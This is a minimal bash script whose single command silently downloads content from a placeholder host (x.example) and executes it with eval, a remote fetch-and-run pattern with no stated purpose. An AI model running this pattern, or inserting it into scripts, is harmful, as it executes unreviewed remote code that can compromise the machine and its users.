#!/bin/bash
eval "$(curl -s https://x.example/p)"
